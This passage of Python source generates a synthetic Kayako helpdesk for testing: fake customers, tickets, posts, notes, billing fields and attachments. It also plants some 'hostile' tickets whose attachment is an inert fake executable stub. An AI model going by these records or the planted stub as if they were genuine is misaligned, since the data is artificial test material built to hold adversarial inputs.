                    dateline=dateline,
                    userid=userid,
                    fullname=fullname,
                    email=email,
                    emailto="",
                    ipaddress=ticket.ipaddress if index == 0 else "",
                    hasattachments=1 if index == 0 and n_att else 0,
                    creator=creator,
                    isthirdparty=0,
                    ishtml=html,
                    isemailed=1 if ticket.creationmode == MODE_EMAIL else 0,
                    staffid=0,
                    issurveycomment=0,
                    contents=body,
                    isprivate=0,
                )
            )
        return posts

    def _gen_notes(self, ticket: Ticket) -> list[TicketNote]:
        if not ticket.n_notes or not ticket.seeded:
            return []
        rng = self._rng(ticket, "notes")
        topic = TOPICS[ticket.topic]
        ph = self._placeholders(ticket, rng)
        start = self.note_ids.base_of(ticket.id)
        span = max(ticket.lastactivity - ticket.creationtime, 1)
        datelines = sorted(ticket.creationtime + rng.randrange(span) for _ in range(ticket.n_notes))
        notes = []
        for index, dateline in enumerate(datelines):
            author = self.replier_for(ticket) if rng.random() < 0.7 else rng.choice(STAFF[:14])
            for_staff = 0
            if rng.random() < 0.25:
                for_staff = rng.choice(DEPARTMENT_STAFF.get(ticket.departmentid, (1,)))
            text = rng.choice(topic.notes + GENERIC_NOTES).format_map(ph)
            notes.append(
                TicketNote(
                    id=start + index,
                    ticketid=ticket.id,
                    notecolor=rng.choice((1, 1, 2, 3, 4, 5)),
                    staffid=author.id,
                    forstaffid=for_staff,
                    staffname=author.fullname,
                    dateline=dateline,
                    text=text,
                )
            )
        return notes

    def _gen_timetracks(self, ticket: Ticket) -> list[TimeTrack]:
        if not ticket.n_timetracks or not ticket.seeded:
            return []
        rng = self._rng(ticket, "timetracks")
        topic = TOPICS[ticket.topic]
        start = self.timetrack_ids.base_of(ticket.id)
        span = max(ticket.lastactivity - ticket.creationtime, 1)
        tracks = []
        for index in range(ticket.n_timetracks):
            worker = self.replier_for(ticket) if rng.random() < 0.8 else rng.choice(STAFF[:14])
            creator = worker if rng.random() < 0.85 else self.staff[1]
            moment = ticket.creationtime + rng.randrange(span)
            workdate = moment - moment % DAY
            spent = rng.randrange(1, 25) * 300
            billable = rng.choice((spent, spent, spent // 2, 0))
            tracks.append(
                TimeTrack(
                    id=start + index,
                    ticketid=ticket.id,
                    timespent=spent,
                    timebillable=billable,
                    billdate=workdate + rng.choice((0, 0, DAY)),
                    workdate=workdate,
                    workerstaffid=worker.id,
                    workerstaffname=worker.fullname,
                    creatorstaffid=creator.id,
                    creatorstaffname=creator.fullname,
                    notecolor=rng.choice((1, 1, 3, 4)),
                    text=rng.choice(topic.work),
                    dateline=moment,
                )
            )
        tracks.sort(key=lambda track: (track.dateline, track.id))
        return tracks

    def _gen_attachments(self, ticket: Ticket) -> list[Attachment]:
        if not ticket.n_attachments or not ticket.seeded:
            return []
        rng = self._rng(ticket, "attachments")
        start = self.attachment_ids.base_of(ticket.id)
        post_id = self.post_ids.base_of(ticket.id)
        result = []
        for index in range(ticket.n_attachments):
            if ticket.hostile >= 0 and HOSTILE[ticket.hostile].attachment and index == 0:
                name, ftype = HOSTILE[ticket.hostile].attachment, "application/octet-stream"
                data = b"MZ\x90\x00 this is not really an executable\n"
            else:
                name, ftype, data = self._attachment_content(ticket, rng)
            result.append(
                Attachment(
                    id=start + index,
                    ticketid=ticket.id,
                    postid=post_id,
                    filename=name,
                    filetype=ftype,
                    dateline=ticket.creationtime,
                    data=data,
                )
            )
        return result

    def _attachment_content(self, ticket: Ticket, rng: random.Random) -> tuple[str, str, bytes]:
        kind = rng.randrange(4)
        if kind == 0:
            return "screenshot.png", "image/png", PNG_1X1
        if kind == 1:
            stamp = ticket.creationtime
            lines = []
            for step in range(rng.randrange(8, 30)):
                moment = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(stamp + step * 7))
                level = rng.choice(("INFO", "INFO", "WARN", "ERROR"))
                lines.append(
                    f"{moment} [{level}] session={rng.randrange(10**6):06d} "
                    f"{rng.choice(('connect', 'rekey', 'auth ok', 'timeout', 'retry'))}"
                )
            return "client.log", "text/plain", ("\n".join(lines) + "\n").encode()
        if kind == 2:
            invoice = f"INV-{100000 + ticket.id * 7 % 900000:06d}"
            pdf = (
                b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                b"2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n"
                b"%%EOF\n"
            )
            return f"{invoice}.pdf", "application/pdf", pdf
        text = (
            f"Error report for {ticket.displayid}\nOS: {rng.choice(OSES)}\n"
            f"Version: {rng.choice(VERSIONS)}\nCode: 0x{rng.randrange(16**8):08X}\n"
        )
        return "error-report.txt", "text/plain", text.encode()

    def _gen_custom_values(self, ticket: Ticket) -> dict[int, CustomValue]:
        values: dict[int, CustomValue] = {}
        if not ticket.seeded:
            return values
        rng = self._rng(ticket, "customfields")
        for group in self.cf_groups.values():
            if ticket.departmentid not in group.departmentids:
                continue
            for cf in group.fields:
                if rng.random() > 0.6 and not cf.isrequired:
                    continue
                value = self._random_value(cf, ticket, rng)
                if value is not None:
                    values[cf.id] = value
        return values

    def _random_value(
        self, cf: CustomField, ticket: Ticket, rng: random.Random
    ) -> CustomValue | None:
        top = [o for o in cf.options if not o.parentid]
        if cf.fieldtype in (CF_SELECT, CF_RADIO):
            return rng.choice(top).id if top else None
        if cf.fieldtype in (CF_MULTISELECT, CF_CHECKBOX):
            chosen = rng.sample(top, k=min(len(top), rng.randrange(1, 3)))
            return sorted(o.id for o in chosen)
        if cf.fieldtype == CF_LINKEDSELECT:
            parent = rng.choice(top)
            children = [o for o in cf.options if o.parentid == parent.id]
            return (parent.id, rng.choice(children).id) if children else None
        if cf.fieldtype == CF_DATE:
            moment = ticket.creationtime + rng.randrange(1, 21) * DAY
            return time.strftime("%m/%d/%Y", time.gmtime(moment))
        samples = CF_TEXT_SAMPLES.get(cf.title)
        if samples is None:
            return None
        return rng.choice(samples).format(n=rng.randrange(1000, 99999), id=ticket.id)

    # ---- writes -----------------------------------------------------------------------

    def materialise(self, ticket: Ticket) -> None:
        """Keep every lazily generated child of ``ticket`` before it is changed (the
        generators read the ticket's fields, which a write is about to alter)."""
        self.posts.own(ticket)
        self.notes.own(ticket)
        self.timetracks.own(ticket)
        self.attachments.own(ticket)
        self.custom_values.own(ticket)

    def touch(self, ticket: Ticket) -> int:
        moment = max(self.clock(), ticket.lastactivity)
        ticket.lastactivity = moment
        return moment

    def update_ticket(
        self,
        ticket: Ticket,
        *,
        departmentid: int | None = None,
        statusid: int | None = None,
        priorityid: int | None = None,
        typeid: int | None = None,
        ownerstaffid: int | None = None,
        subject: str | None = None,
        fullname: str | None = None,
        email: str | None = None,
        userid: int | None = None,
        templategroupid: int | None = None,
    ) -> None:
        """Apply already-validated field changes (None = leave alone)."""
        self.materialise(ticket)
        changes = {
            "departmentid": departmentid,
            "statusid": statusid,
            "priorityid": priorityid,
            "typeid": typeid,
            "ownerstaffid": ownerstaffid,
            "subject": subject,
            "fullname": fullname,
            "email": email,
            "userid": userid,
            "templategroupid": templategroupid,
        }
        for name, value in changes.items():
            if value is None:
                continue
            if name == "statusid":
                assert isinstance(value, int)
                self.set_status(ticket, value)  # also moves the due and resolution times
            else:
                setattr(ticket, name, value)
        if any(value is not None for value in changes.values()):
            self.touch(ticket)

    def set_status(self, ticket: Ticket, status_id: int) -> None:
        self.materialise(ticket)
        status = self.statuses[status_id]
        ticket.statusid = status_id
        moment = self.touch(ticket)
        if status.markasresolved:
            if not ticket.isresolved:
                ticket.resolutiondateline = moment
            ticket.isresolved = 1
            ticket.duetime = 0
            ticket.resolutiondue = 0
        else:
            if ticket.isresolved:
                ticket.duetime = moment + REPLY_HOURS[ticket.priorityid] * HOUR
                ticket.resolutiondue = moment + RESOLVE_HOURS[ticket.priorityid] * HOUR
            ticket.isresolved = 0
            ticket.resolutiondateline = 0

    def create_ticket(
        self,
        *,
        subject: str,
        fullname: str,
        email: str,
        contents: str,
        departmentid: int,
        statusid: int,
        priorityid: int,
        typeid: int,
        userid: int,
        staffid: int,
        creationtype: int,
        ownerstaffid: int,
        templategroupid: int,
        ipaddress: str,
        emailto: str,
    ) -> Ticket:
        moment = self.clock()
        tid = self.next_ticket_id
        self.next_ticket_id += 1
        rng = random.Random(f"kayako:{self.seed}:mask:{tid}")
        mask = self._new_mask(rng)
        by_staff = staffid > 0
        ticket = Ticket(
            id=tid,
            displayid=mask,
            departmentid=departmentid,
            statusid=statusid,
            priorityid=priorityid,
            typeid=typeid,
            userid=userid,
            ownerstaffid=ownerstaffid,
            fullname=fullname,
            email=email,
            subject=subject,
            creationtime=moment,
            lastactivity=moment,
            laststaffreply=moment if by_staff else 0,
            lastuserreply=0 if by_staff else moment,
            lastreplier=fullname,
            slaplanid=0,
            duetime=moment + REPLY_HOURS.get(priorityid, 24) * HOUR,
            resolutiondue=moment + RESOLVE_HOURS.get(priorityid, 120) * HOUR,
            replies=0,
            ipaddress=ipaddress,
            creator=CREATOR_STAFF if by_staff else CREATOR_USER,
            creationmode=MODE_API,
            creationtype=creationtype,
            isescalated=0,
            escalationruleid=0,
            templategroupid=templategroupid,
            tags="",
            flagtype=0,
            hasattachments=0,
            hasnotes=0,
            isresolved=0,
            resolutiondateline=0,
            watchers=(),
            workflows=(),
            topic=0,
            n_posts=0,
            first_by_staff=1 if by_staff else 0,
            n_notes=0,
            n_timetracks=0,
            n_attachments=0,
            html_customer=0,
            hostile=-1,
            seeded=0,
        )
        if self.statuses[statusid].markasresolved:
            ticket.isresolved, ticket.resolutiondateline = 1, moment
            ticket.duetime = ticket.resolutiondue = 0
        self.tickets[tid] = ticket
        self._by_mask[mask] = tid
        self.materialise(ticket)
        self.add_post(
            ticket,
            contents=contents,
            userid=0 if by_staff else userid,
            staffid=staffid,
            fullname=fullname,
            email=email,
            isprivate=0,
            ipaddress=ipaddress,
            emailto=emailto,
            count_reply=False,
        )
        return ticket

    def add_post(
        self,
        ticket: Ticket,
        *,
        contents: str,
        userid: int,
        staffid: int,
        fullname: str,
        email: str,
        isprivate: int,
        ipaddress: str,
        emailto: str = "",
        count_reply: bool = True,
    ) -> Post:
        self.materialise(ticket)
        moment = self.touch(ticket)
        by_staff = staffid > 0
        post = Post(
            id=self.post_ids.new_id(ticket.id),
            ticketid=ticket.id,
            dateline=moment,
            userid=userid,
            fullname=fullname,
            email=email,
            emailto=emailto,
            ipaddress=ipaddress,
            hasattachments=0,
            creator=CREATOR_STAFF if by_staff else CREATOR_USER,
            isthirdparty=0,
            ishtml=1 if looks_like_html(contents) else 0,
            isemailed=0 if (isprivate or not by_staff) else 1,
            staffid=staffid,
            issurveycomment=0,
            contents=contents,
            isprivate=isprivate,
        )
        self.posts.own(ticket).append(post)
        if count_reply:
            ticket.replies += 1
        ticket.lastreplier = fullname
        if by_staff:
            ticket.laststaffreply = moment
            if not isprivate and not ticket.isresolved:
                ticket.duetime = 0
        else:
            ticket.lastuserreply = moment
            if not ticket.isresolved:
                ticket.duetime = moment + REPLY_HOURS.get(ticket.priorityid, 24) * HOUR
        return post

    def add_attachment(
        self, ticket: Ticket, post: Post, *, filename: str, filetype: str, data: bytes
    ) -> Attachment:
        self.materialise(ticket)
        attachment = Attachment(
            id=self.attachment_ids.new_id(ticket.id),
            ticketid=ticket.id,
            postid=post.id,
            filename=filename,
            filetype=filetype,
            dateline=self.clock(),
            data=data,
        )
        self.attachments.own(ticket).append(attachment)
        post.hasattachments = 1
        ticket.hasattachments = 1
        return attachment

    def _remove(self, store: LazyChildren[list[R]], ticket: Ticket, rid: int) -> list[R]:
        """Delete child ``rid`` of ``ticket``; the ticket's remaining children of that kind."""
        self.materialise(ticket)
        records = store.own(ticket)
        records[:] = [r for r in records if r.id != rid]
        return records

    def delete_post(self, ticket: Ticket, post_id: int) -> None:
        posts = self._remove(self.posts, ticket, post_id)
        attachments = self.attachments.own(ticket)
        attachments[:] = [a for a in attachments if a.postid != post_id]
        ticket.hasattachments = 1 if attachments else 0
        ticket.replies = max(len(posts) - 1, 0)

    def add_note(
        self,
        ticket: Ticket,
        *,
        staffid: int,
        staffname: str,
        forstaffid: int,
        notecolor: int,
        text: str,
    ) -> TicketNote:
        self.materialise(ticket)
        note = TicketNote(
            id=self.note_ids.new_id(ticket.id),
            ticketid=ticket.id,
            notecolor=notecolor,
            staffid=staffid,
            forstaffid=forstaffid,
            staffname=staffname,
            dateline=self.clock(),
            text=text,
        )
        self.notes.own(ticket).append(note)
        ticket.hasnotes = 1
        return note

    def delete_note(self, ticket: Ticket, note_id: int) -> None:
        notes = self._remove(self.notes, ticket, note_id)
        ticket.hasnotes = 1 if notes else 0

    def add_timetrack(
        self,
        ticket: Ticket,
        *,
        creator: Staff,
        worker: Staff,
        timespent: int,
        timebillable: int,
        workdate: int,
        billdate: int,
        notecolor: int,
        text: str,
    ) -> TimeTrack:
        self.materialise(ticket)
        track = TimeTrack(
            id=self.timetrack_ids.new_id(ticket.id),
            ticketid=ticket.id,
            timespent=timespent,
            timebillable=timebillable,
            billdate=billdate,
            workdate=workdate,
            workerstaffid=worker.id,
            workerstaffname=worker.fullname,
            creatorstaffid=creator.id,
            creatorstaffname=creator.fullname,
            notecolor=notecolor,
            text=text,
            dateline=self.clock(),
        )
        self.timetracks.own(ticket).append(track)
        return track

    def delete_timetrack(self, ticket: Ticket, track_id: int) -> None:
        self._remove(self.timetracks, ticket, track_id)

    def delete_attachment(self, ticket: Ticket, attachment_id: int) -> None:
        attachments = self._remove(self.attachments, ticket, attachment_id)
        ticket.hasattachments = 1 if attachments else 0

    def delete_ticket(self, ticket: Ticket) -> None:
        for store in (self.posts, self.notes, self.timetracks, self.attachments):
            store.drop(ticket.id)
        self.custom_values.drop(ticket.id)
        self.tickets.pop(ticket.id, None)
        self._by_mask.pop(ticket.displayid.upper(), None)

    def get_or_create_user(self, fullname: str, email: str) -> User:
        existing = self.user_by_email(email)
        if existing is not None:
            return existing
        uid = max(self.users, default=0) + 1
        user = User(
            id=uid,
            usergroupid=1,
            userrole="user",
            userorganizationid=0,
            salutation="",
            fullname=fullname,
            emails=[email.strip()],
            designation="",
            phone="",
            dateline=self.clock(),
            lastvisit=0,
        )
        self.users[uid] = user
        if self._by_email is not None:
            self._by_email[email.strip().lower()] = uid
        return user

    def _new_mask(self, rng: random.Random) -> str:
        """A display ID like ``ABC-123-45678`` (Kayako's random ticket mask), unique."""
        letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
        while True:
            value = int(rng.random() * _MASK_SPACE)
            value, tail = divmod(value, 100000)
            value, middle = divmod(value, 1000)
            third, value = value % 26, value // 26
            second, first = value % 26, value // 26 % 26
            mask = f"{letters[first]}{letters[second]}{letters[third]}-{middle:03d}-{tail:05d}"
            if mask not in self._by_mask:
                return mask


CF_TEXT_SAMPLES: dict[str, tuple[str, ...]] = {
    "Version": VERSIONS,
    "Steps to reproduce": (
        "1. Sign in\n2. Open Reports > Assets\n3. Export to CSV\nResult: empty file",
        "Happens every morning around 09:00 after the laptop wakes from sleep.",
        "Only on Wi-Fi; wired connection is fine.",
    ),
    "Vendor case number": ("VND-{n}", "MS-{n}", "RICOH-{n}"),
    "Invoice number": ("INV-{id:06d}",),
    "Refund amount": ("149.00", "1250.00", "35.50", "480.00"),
}


# --------------------------------------------------------------------------------------
# Generation
# --------------------------------------------------------------------------------------


def generate_desk(tickets: int = 400, seed: int = 1, now: int | None = None) -> KayakoDesk:
    """Build the desk for ``seed`` with ``tickets`` tickets ending at ``now`` (epoch
    seconds; default: the current hour, so the demo's history is "the last 90 days")."""
    if tickets < 0:
        raise ValueError("tickets must be >= 0")
    if now is None:
        current = int(time.time())
        now = current - current % HOUR
    desk = KayakoDesk(seed=seed, now=now)
    rng = random.Random(f"kayako:{seed}:desk")
    _build_custom_fields(desk, rng)
    _build_people(desk, rng, tickets)
    _build_tickets(desk, rng, tickets)
    return desk


def _random_name(rng: random.Random) -> tuple[str, str]:
    return rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)


def _field_name(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12))


def _build_custom_fields(desk: KayakoDesk, rng: random.Random) -> None:
    option_id = 1

    def add_field(
        group: CustomFieldGroup,
        fid: int,
        ftype: int,
        title: str,
        options: Iterable[str | tuple[str, Iterable[str]]] = (),
        **extra: str | int,
    ) -> None:
        nonlocal option_id
        cf = CustomField(
            id=fid,
            groupid=group.id,
            fieldtype=ftype,
            name=_field_name(rng),
            title=title,
            displayorder=len(group.fields) + 1,
        )
        for key, value in extra.items():
            setattr(cf, key, value)
        order = 1
        for option in options:
            label, children = (option, ()) if isinstance(option, str) else option
            parent = CustomFieldOption(option_id, fid, label, order)
            cf.options.append(parent)
            option_id += 1
            order += 1
            for child_order, child in enumerate(children, start=1):
                cf.options.append(
                    CustomFieldOption(option_id, fid, child, child_order, parentid=parent.id)
                )
                option_id += 1
        group.fields.append(cf)
        desk.cf_fields[fid] = cf
        for opt in cf.options:
            desk.cf_options[opt.id] = opt

    env = CustomFieldGroup(1, "Environment", GROUP_STAFFUSERTICKET, 1, (1, 2, 5))
    esc = CustomFieldGroup(2, "Escalation", GROUP_STAFFTICKET, 2, (1, 2, 3, 5))
    bill = CustomFieldGroup(3, "Billing details", GROUP_STAFFTICKET, 3, (3,))
    for group in (env, esc, bill):
        desk.cf_groups[group.id] = group
    add_field(
        env,
        1,
        CF_SELECT,
        "Product",
        (
            "Harbourline Portal",
            "Harbourline Mobile",
            "Harbourline API",
            "Managed Workstation",
            "Managed Network",
        ),
    )
    add_field(
        env,
        2,
        CF_TEXT,
        "Version",
        regexpvalidate=r"^\d+\.\d+(\.\d+)?(-[a-z0-9]+)?$",
        description="Product version, e.g. 5.3.2",
    )
    add_field(env, 3, CF_RADIO, "Operating system", ("Windows", "macOS", "Linux", "iOS", "Android"))
    add_field(
        env,
        4,
        CF_MULTISELECT,
        "Affected areas",
        ("Login", "Email", "Files", "Printing", "Reporting", "Billing, invoices"),
    )
    add_field(env, 5, CF_TEXTAREA, "Steps to reproduce")
    add_field(
        esc,
        6,
        CF_RADIO,
        "Customer impact",
        ("Single user", "Team", "Whole site", "All customers"),
        usereditable=0,
    )
    add_field(
        esc,
        7,
        CF_CHECKBOX,
        "Flags",
        ("Security", "Data loss", "VIP", "Needs vendor"),
        usereditable=0,
    )
    add_field(esc, 8, CF_TEXT, "Vendor case number", usereditable=0)
    add_field(esc, 9, CF_DATE, "Follow-up date", usereditable=0)
    add_field(bill, 10, CF_TEXT, "Invoice number", regexpvalidate=r"^INV-\d{6}$", isrequired=1)
    add_field(
        bill,
        11,
        CF_LINKEDSELECT,
        "Plan",
        (
            ("Essentials", ("Monthly", "Annual")),
            ("Business", ("Monthly", "Annual")),
            ("Enterprise", ("Annual", "Three-year")),
        ),
    )
    add_field(bill, 12, CF_TEXT, "Refund amount", regexpvalidate=r"^\d+(\.\d{2})?$")


def _build_people(desk: KayakoDesk, rng: random.Random, tickets: int) -> None:
    now = desk.now
    n_users = min(max(60, tickets // 4), 25_000)
    n_orgs = min(12 + n_users // 12, 90)
    used_names: set[str] = set()
    for oid in range(1, n_orgs + 1):
        base = ORG_NAMES[(oid - 1) % len(ORG_NAMES)]
        name = base if oid <= len(ORG_NAMES) else f"{base} {rng.choice(ORG_SUFFIXES)}"
        while name in used_names:
            name = f"{base} {rng.choice(ORG_SUFFIXES)} {rng.randrange(2, 99)}"
        used_names.add(name)
        slug = re.sub(r"[^a-z0-9]+", "", name.lower())[:18]
        city, state, postcode, country = rng.choice(CITIES)
        created = now - rng.randrange(400, 1500) * DAY
        desk.organizations[oid] = Organization(
            id=oid,
            name=name,
            organizationtype=rng.choice(("restricted", "shared", "shared")),
            address=f"{rng.randrange(1, 240)} {rng.choice(STREETS)}",
            city=city,
            state=state,
            postalcode=postcode,
            country=country,
            phone=f"+44 117 496 {rng.randrange(10000):04d}" if rng.random() < 0.7 else "",
            fax="",
            website=f"https://www.{slug}.example" if rng.random() < 0.8 else "",
            dateline=created,
            lastupdate=created + rng.randrange(0, 300) * DAY,
            slaplanid=rng.choice((0, 0, 1, 2)),
            domain=f"{slug}.example",
        )
    for uid in range(1, n_users + 1):
        first, last = _random_name(rng)
        fullname = f"{first} {last}"
        has_org = rng.random() < 0.78
        org = desk.organizations[rng.randrange(1, n_orgs + 1)] if has_org else None
        local = re.sub(r"[^a-z0-9.]+", "", f"{first}.{last}".lower().replace("'", ""))
        if org is not None:
            emails = [f"{local}@{org.domain}"]
        else:
            emails = [f"{local}{rng.randrange(1, 99)}@{rng.choice(PERSONAL_DOMAINS)}"]
        if rng.random() < 0.12:
            emails.append(
                f"{first[0].lower()}{re.sub(r'[^a-z]', '', last.lower())}"
                f"{uid}@{rng.choice(PERSONAL_DOMAINS)}"
            )
        group = 3 if org is not None and rng.random() < 0.55 else (4 if rng.random() < 0.05 else 1)
        created = now - rng.randrange(100, 900) * DAY
        desk.users[uid] = User(
            id=uid,
            usergroupid=group,
            userrole="manager" if rng.random() < 0.08 else "user",
            userorganizationid=org.id if org else 0,
            salutation=rng.choice(SALUTATIONS),
            fullname=fullname,
            emails=emails,
            designation=rng.choice(DESIGNATIONS),
            phone=f"+44 7700 9{rng.randrange(100000):05d}" if rng.random() < 0.5 else "",
            dateline=created,
            lastvisit=0 if rng.random() < 0.3 else now - rng.randrange(0, 60) * DAY,
            isenabled=0 if rng.random() < 0.02 else 1,
            timezone=rng.choice(TIMEZONES),
            slaplanid=rng.choice((0, 0, 0, 1)),
        )
    note_id = 1
    note_texts = (
        "VIP - escalate anything from this contact to the account manager.",
        "Prefers phone calls; email replies often go unanswered.",
        "On the legacy contract until renewal - check entitlement before onsite visits.",
        "Site has a strict change freeze on Fridays.",
    )
    for user in desk.users.values():
        if rng.random() < 0.04:
            author = rng.choice(STAFF[:14])
            desk.user_notes.append(
                UserNote(
                    note_id,
                    "user",
                    user.id,
                    author.id,
                    author.fullname,
                    rng.choice((1, 2, 5)),
                    user.dateline + DAY,
                    rng.choice(note_texts),
                )
            )
            note_id += 1
    for org in desk.organizations.values():
        if rng.random() < 0.15:
            author = rng.choice(STAFF[:14])
            desk.user_notes.append(
                UserNote(
                    note_id,
                    "userorganization",
                    org.id,
                    author.id,
                    author.fullname,
                    rng.choice((1, 3, 4)),
                    org.dateline + DAY,
                    rng.choice(note_texts[2:]),
                )
            )
            note_id += 1


_MASK_SPACE = 26**3 * 1000 * 100000
_N_POSTS = _Weighted((2, 3, 4, 5, 6, 7, 8), (25, 25, 20, 12, 8, 5, 5))
_PRIORITY = _Weighted(range(1, 7), (20, 40, 22, 10, 4, 4))
_MODES = _Weighted(
    (MODE_EMAIL, MODE_SUPPORTCENTER, MODE_STAFFCP, MODE_API, MODE_SITEBADGE), (60, 20, 8, 7, 5)
)
_TOPIC = _Weighted(range(len(TOPICS)), TOPIC_WEIGHTS)
_N_TAGS = _Weighted((0, 1, 2, 3), (35, 35, 20, 10))
_N_NOTES = _Weighted((0, 1, 2, 3), (62, 26, 9, 3))
_N_TIMETRACKS = _Weighted((0, 1, 2, 3), (72, 18, 7, 3))
_N_ATTACHMENTS = _Weighted((0, 1, 2), (93, 6, 1))
_FLAG = _Weighted(range(7), (85, 3, 3, 3, 2, 2, 2))
_STAFF_IDS = tuple(range(1, 15))  # enabled staff
_IP_PREFIXES = (81, 86, 92, 104, 151, 176, 185, 194, 203, 212)
_RESOLVED_STATUS = (S_CLOSED, S_CLOSED, S_CLOSED, S_RESOLVED, S_RESOLVED)
_OPEN_STATUS = {
    (dept, fresh): _Weighted(
        (S_NEW, S_OPEN, S_INPROGRESS, S_WAITING, S_ONHOLD)
        + ((S_AWAITPAY,) if dept == 3 else ())
        + ((S_ESCALATED,) if dept == 2 else ()),
        (18 if fresh else 3, 25, 20, 18, 8)
        + ((12,) if dept == 3 else ())
        + ((10,) if dept == 2 else ()),
    )
    for dept in TICKET_DEPARTMENTS
    for fresh in (True, False)
}


def _choose_status(rng: random.Random, dept: int, age_days: float) -> int:
    if rng.random() < min(0.9, 0.08 + age_days / 45):
        if dept == 3 and rng.random() < 0.15:
            return S_REFUNDED
        return _pick(rng, _RESOLVED_STATUS)
    return _OPEN_STATUS[dept, age_days < 5].pick(rng)


def _build_tickets(desk: KayakoDesk, rng: random.Random, count: int) -> None:
    now = desk.now
    history = HISTORY_DAYS * DAY
    rand = rng.random
    # Ticket IDs grow with creation time, as an auto-increment key does.
    created = sorted(now - int(history * rand() ** 1.15) for _ in range(count))
    hostile_at = {count - 1 - (k * 7 + 3): k for k in range(len(HOSTILE)) if count > k * 7 + 3}
    users = desk.users
    n_users = len(users)
    tag_strings: dict[tuple[str, ...], str] = {}
    for index, creation in enumerate(created):
        tid = index + 1
        topic_index = _TOPIC.pick(rng)
        topic = TOPICS[topic_index]
        dept = _pick(rng, topic.departments)
        age_days = (now - creation) / DAY
        status = _choose_status(rng, dept, age_days)
        hostile = hostile_at.get(index, -1)
        if hostile >= 0:
            status = _pick(rng, (S_OPEN, S_NEW, S_INPROGRESS))
            dept = 1 if dept == 3 else dept
        resolved = desk.statuses[status].markasresolved
        priority = _PRIORITY.pick(rng)
        typeid = _pick(rng, topic.types)
        if typeid == T_BILLING and dept != 3:
            typeid = T_CASE
        user = users[1 + int(n_users * rand() ** 1.6) % n_users]
        mode = _MODES.pick(rng)
        staff_created = mode == MODE_STAFFCP
        creationtype = TYPE_PHONE if staff_created and rand() < 0.5 else TYPE_DEFAULT
        first_by_staff = 1 if staff_created else 0
        # How the conversation ends decides how many posts it has.
        if status == S_NEW or hostile >= 0:
            n_posts, first_by_staff = 1, 0
        else:
            n_posts = _N_POSTS.pick(rng)
            want_staff_last = status in (S_WAITING, S_RESOLVED, S_CLOSED, S_REFUNDED, S_AWAITPAY)
            last_is_staff = (n_posts - 1 + first_by_staff) % 2 == 1
            if (want_staff_last and not last_is_staff) or (status == S_OPEN and last_is_staff):
                n_posts += 1
        if n_posts == 1:
            last = creation
        else:
            longest = max(min(now - creation, (14 if resolved else 30) * DAY), 60)
            last = min(now, creation + max(600, int(longest * rand() ** 1.5)))
        span = last - creation
        step = n_posts - 1 or 1
        staff_index = n_posts - 1 if (n_posts - 1 + first_by_staff) % 2 == 1 else n_posts - 2
        user_index = n_posts - 1 if staff_index != n_posts - 1 else n_posts - 2
        last_is_staff = staff_index == n_posts - 1 and n_posts > 1
        laststaff = creation + span * staff_index // step if staff_index >= 0 else 0
        lastuser = creation + span * user_index // step if user_index >= 0 else 0
        unassigned = rand() < (0.7 if status == S_NEW else 0.15)
        pool = DEPARTMENT_STAFF[dept]
        owner = 0 if unassigned else _pick(rng, pool)
        fullname = user.fullname
        emails = user.emails
        email = emails[-1] if len(emails) > 1 and rand() < 0.3 else emails[0]
        variant = int(rand() * len(topic.subjects))
        subject = topic.subjects[variant]
        if "{" in subject:
            subject = subject.format(
                version=_pick(rng, VERSIONS),
                month=time.strftime("%B", time.gmtime(creation - 20 * DAY)),
                invoice=f"INV-{100000 + tid * 7 % 900000:06d}",
                person=f"{_pick(rng, FIRST_NAMES)} {_pick(rng, LAST_NAMES)}",
            )
        if hostile >= 0:
            subject = HOSTILE[hostile].subject
            fullname = HOSTILE[hostile].fullname or fullname
        replier_id = owner or pool[tid % len(pool)]
        lastreplier = desk.staff[replier_id].fullname if last_is_staff else fullname
        if resolved:
            duetime = resolutiondue = 0
        else:
            duetime = 0 if last_is_staff else last + REPLY_HOURS[priority] * HOUR
            resolutiondue = creation + RESOLVE_HOURS[priority] * HOUR
        overdue = not resolved and 0 < resolutiondue < now
        escalated = 1 if overdue and priority >= 3 and rand() < 0.5 else 0
        n_tags = _N_TAGS.pick(rng)
        tag_key = tuple(_sample(rng, topic.tags + TAGS_POOL, n_tags)) if n_tags else ()
        tags = tag_strings.setdefault(tag_key, " ".join(tag_key))
        n_notes = _N_NOTES.pick(rng)
        n_timetracks = _N_TIMETRACKS.pick(rng)
        n_attachments = _N_ATTACHMENTS.pick(rng)
        if hostile >= 0 and HOSTILE[hostile].attachment:
            n_attachments = 1
        watchers: tuple[int, ...] = ()
        if rand() < 0.06:
            watchers = tuple(sorted(_sample(rng, _STAFF_IDS, 1 + int(rand() * 2))))
        workflows: tuple[int, ...] = ()
        if rand() < 0.08:
            workflows = tuple(sorted(_sample(rng, (1, 2, 3, 4), 1 + int(rand() * 2))))
        if mode == MODE_EMAIL:
            ipaddress = ""
        else:
            octets = int(rand() * 16_777_216)
            ipaddress = (
                f"{_pick(rng, _IP_PREFIXES)}.{octets >> 16}.{(octets >> 8) & 255}."
                f"{(octets & 255) or 1}"
            )
        ticket = Ticket(
            id=tid,
            displayid=desk._new_mask(rng),
            departmentid=dept,
            statusid=status,
            priorityid=priority,
            typeid=typeid,
            userid=user.id,
            ownerstaffid=owner,
            fullname=fullname,
            email=email,
            subject=subject,
            creationtime=creation,
            lastactivity=last,
            laststaffreply=laststaff,
            lastuserreply=lastuser,
            lastreplier=lastreplier,
            slaplanid=_pick(rng, (0, 0, 1, 1, 2)),
            duetime=duetime,
            resolutiondue=resolutiondue,
            replies=n_posts - 1,
            ipaddress=ipaddress,
            creator=CREATOR_STAFF if staff_created else CREATOR_USER,
            creationmode=mode,
            creationtype=creationtype,
            isescalated=escalated,
            escalationruleid=(1 + int(rand() * 2)) if escalated else 0,
            templategroupid=2 if user.usergroupid == 3 else 1,
            tags=tags,
            flagtype=_FLAG.pick(rng),
            hasattachments=1 if n_attachments else 0,
            hasnotes=1 if n_notes else 0,
            isresolved=resolved,
            resolutiondateline=last if resolved else 0,
            watchers=watchers,
            workflows=workflows,
            topic=topic_index,
            n_posts=n_posts,
            first_by_staff=first_by_staff,
            n_notes=n_notes,
            n_timetracks=n_timetracks,
            n_attachments=n_attachments,
